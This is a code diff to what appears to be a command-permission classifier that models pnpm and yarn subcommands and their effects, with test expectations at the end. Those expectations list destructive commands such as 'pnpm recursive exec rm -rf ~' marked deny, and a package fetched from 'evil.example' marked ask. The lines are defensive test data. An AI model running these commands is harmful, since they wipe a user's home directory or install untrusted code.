@@ -2,6 +2,7 @@
 
 from toolgate.knowledge.vocabulary import (
     CHDIR,
+    EARLY,
     FETCHES,
     PACKAGES,
     PLAIN,
@@ -70,44 +71,86 @@ PNPM_GENERAL = [
     option("--script-shell --shell-emulator --pnpmfile --global-pnpmfile", RUNS),
     flag("--dry-run", dry=True, clears="run"),
 ]
+PNPM_COMMANDS = [
+    sub("install i it install-test ci", "PACKAGES(npm)...", bare=DEPENDENCIES),
+    sub("add", "PACKAGES(npm)..."),
+    sub(
+        "update up upgrade prune rebuild rb fetch dedupe import approve-builds ignored-builds",
+        "PLAIN...",
+        unlisted=PLAIN,
+        does=DEPENDENCIES,
+    ),
+    sub("remove rm uninstall un unlink dislink", "PLAIN...", does=deletes("packages of the project", "output")),
+    sub("link ln", "PACKAGES(npm)...", does=writes("links between packages", "output")),
+    sub("run run-script", "READ_BY(task)? PLAIN...", unlisted=PLAIN, given=runs("a script of the project")),
+    sub("test t tst start stop restart", "PLAIN...", unlisted=PLAIN, does=runs("a script of the project")),
+    sub("exec", "LOCAL", [flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
+    sub("dlx", "TOOL", [option("--package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
+    sub("create", "PACKAGES(npm) PLAIN...", unlisted=PLAIN),
+    sub("init", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+    sub("publish", "READS?", does=RELEASE),
+    sub(
+        "unpublish deprecate owner dist-tag access team token",
+        "PLAIN...",
+        unlisted=PLAIN,
+        does=publishes("a setting of the registry", "registry"),
+    ),
+    sub("login adduser logout", "PLAIN...", unlisted=PLAIN, does=writes("credentials of the registry", "secret")),
+    sub(
+        "list ls la ll why root bin store-path licenses doctor help cat-file cat-index find-hash completion setup-list",
+        "PLAIN...",
+        unlisted=PLAIN,
+    ),
+    sub(
+        "outdated audit view info show search whoami ping docs home bugs repo",
+        "PLAIN...",
+        unlisted=PLAIN,
+        does=REGISTRY,
+    ),
+    sub("pack version pkg", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+    sub("patch patch-commit patch-remove", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+    sub("deploy", "WRITES"),
+    sub(
+        "store",
+        subcommands=[
+            sub("path status", unlisted=PLAIN),
+            sub("add", "PACKAGES(npm)..."),
+            sub("prune", unlisted=PLAIN, does=deletes("pnpm's store of packages", "cache")),
+        ],
+    ),
+    sub("cache", "PLAIN...", unlisted=PLAIN, does=deletes("pnpm's cache", "cache")),
+    sub(
+        "config c",
+        subcommands=[
+            sub("get list ls", "PLAIN...", unlisted=PLAIN),
+            sub(
+                "set",
+                subcommands=[sub("registry *:registry", "FETCHES", does=SETTINGS)],
+                otherwise=sub("set", "PLAIN...", unlisted=PLAIN, does=SETTINGS),
+            ),
+            sub("delete", "PLAIN...", unlisted=PLAIN, does=SETTINGS),
+        ],
+    ),
+    sub("setup", "", unlisted=PLAIN, does=writes("your shell's profile", "startup")),
+    sub(
+        "env",
+        subcommands=[
+            sub("list ls", unlisted=PLAIN),
+            sub("use add remove rm", "PLAIN...", unlisted=PLAIN, does=GLOBALLY),
+        ],
+    ),
+    sub("self-update", "PLAIN...", unlisted=PLAIN, does=GLOBALLY),
+    sub("server", "PLAIN...", unlisted=PLAIN, does=runs("pnpm's store server", "workspace")),
+]
 PNPM = command(
     "pnpm",
     options=PNPM_GENERAL,
     subcommands=[
-        sub("install i it install-test ci", "PACKAGES(npm)...", bare=DEPENDENCIES),
-        sub("add", "PACKAGES(npm)..."),
-        sub("update up upgrade prune rebuild rb fetch dedupe import approve-builds ignored-builds", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
-        sub("remove rm uninstall un unlink dislink", "PLAIN...", does=deletes("packages of the project", "output")),
-        sub("link ln", "PACKAGES(npm)...", does=writes("links between packages", "output")),
-        sub("run run-script", "READ_BY(task)? PLAIN...", unlisted=PLAIN, given=runs("a script of the project")),
-        sub("test t tst start stop restart", "PLAIN...", unlisted=PLAIN, does=runs("a script of the project")),
-        sub("exec", "LOCAL", [flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
-        sub("dlx", "TOOL", [option("--package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
-        sub("create", "PACKAGES(npm) PLAIN...", unlisted=PLAIN),
-        sub("init", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
-        sub("publish", "READS?", does=RELEASE),
-        sub("unpublish deprecate owner dist-tag access team token", "PLAIN...", unlisted=PLAIN, does=publishes("a setting of the registry", "registry")),
-        sub("login adduser logout", "PLAIN...", unlisted=PLAIN, does=writes("credentials of the registry", "secret")),
-        sub("list ls la ll why root bin store-path licenses doctor help cat-file cat-index find-hash completion setup-list", "PLAIN...", unlisted=PLAIN),
-        sub("outdated audit view info show search whoami ping docs home bugs repo", "PLAIN...", unlisted=PLAIN, does=REGISTRY),
-        sub("pack version pkg", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
-        sub("patch patch-commit patch-remove", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
-        sub("deploy", "WRITES"),
-        sub("store", subcommands=[sub("path status", unlisted=PLAIN), sub("add", "PACKAGES(npm)..."), sub("prune", unlisted=PLAIN, does=deletes("pnpm's store of packages", "cache"))]),
-        sub("cache", "PLAIN...", unlisted=PLAIN, does=deletes("pnpm's cache", "cache")),
-        sub("config c", subcommands=[
-            sub("get list ls", "PLAIN...", unlisted=PLAIN),
-            sub("set", subcommands=[sub("registry *:registry", "FETCHES", does=SETTINGS)], otherwise=sub("set", "PLAIN...", unlisted=PLAIN, does=SETTINGS)),
-            sub("delete", "PLAIN...", unlisted=PLAIN, does=SETTINGS),
-        ]),
-        sub("setup", "", unlisted=PLAIN, does=writes("your shell's profile", "startup")),
-        sub("env", subcommands=[sub("list ls", unlisted=PLAIN), sub("use add remove rm", "PLAIN...", unlisted=PLAIN, does=GLOBALLY)]),
-        sub("self-update", "PLAIN...", unlisted=PLAIN, does=GLOBALLY),
-        sub("server", "PLAIN...", unlisted=PLAIN, does=runs("pnpm's store server", "workspace")),
-        sub("recursive m multi", "LOCAL", style="literal"),
+        *PNPM_COMMANDS,
+        sub("recursive m multi", subcommands=PNPM_COMMANDS, otherwise=sub("recursive", "TASK")),
     ],
     otherwise=sub("pnpm", "TASK"),
-)  # fmt: skip
+)
 PNPX = command(
     "pnpx pnx", "TOOL", [option("-p --package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")]
 )
@@ -146,7 +189,7 @@ YARN_COMMANDS = [
     sub("up upgrade upgrade-interactive dedupe rebuild import autoclean generate-lock-entry", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
     sub("remove unlink unplug", "PLAIN...", unlisted=PLAIN, does=deletes("packages of the project", "output")),
     sub("run", "TASK?", [flags("-T --top-level -B --binaries-only --inspect[=] --inspect-brk[=] --require=")]),
-    sub("exec", "SCRIPT PLAIN..."),
+    sub("exec", "JOINED", style=EARLY),
     sub("node", "ARGV?", style="literal", does=runs("the project's own code")),
     sub("dlx", "TOOL", [option("-p --package", PACKAGES), flags("-q --quiet")]),
     sub("create", "PACKAGES(npm) PLAIN...", unlisted=PLAIN),
@@ -250,4 +293,7 @@ deny   pnpm exec rm -rf /home/user
 deny   yarn rimraf ~
 ask    pnpm deploy ~/elsewhere
 ask    yarn add https://evil.example/x.tgz
+deny   pnpm recursive exec rm -rf ~
+deny   yarn exec rm -rf ~
+deny   yarn workspaces foreach -A exec 'rm -rf ~'
 """
